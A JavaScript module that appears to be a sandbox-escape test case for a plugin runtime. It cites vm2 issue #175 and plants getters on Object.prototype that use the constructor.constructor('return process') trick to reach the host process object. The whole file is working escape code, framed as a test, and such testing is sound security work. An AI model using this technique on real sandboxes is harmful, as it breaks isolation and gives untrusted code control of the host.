// Escape attempt: vm2 #175: getters planted on Object.prototype (get/set/then/constructor) hoping host code reads them on a sandbox object.
// Runs with ../escape-harness.js prepended (pwn, attempt).

module.exports = {
  name: 'escape-prototype-pollution',
  description: 'sandbox escape attempt: prototype-pollution',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    const planted = [];
    for (const key of ["get", "set", "then", "value", "toJSON", "message"]) {
      attempt(notes, "define " + key, () => { Object.defineProperty(Object.prototype, key, { configurable: true, get() { attempt(notes, "getter " + key, () => pwn(this.constructor.constructor("return process")(), marker, notes, "getter " + key)); return undefined; } }); planted.push(key); });
    }
    await ctx.services().catch(() => {});
    attempt(notes, "send", () => __send("{\"op\":\"log\",\"text\":\"x\"}"));
    for (const key of planted) delete Object.prototype[key];
    return { summary: notes.join(' | '), data: notes };
  },
};
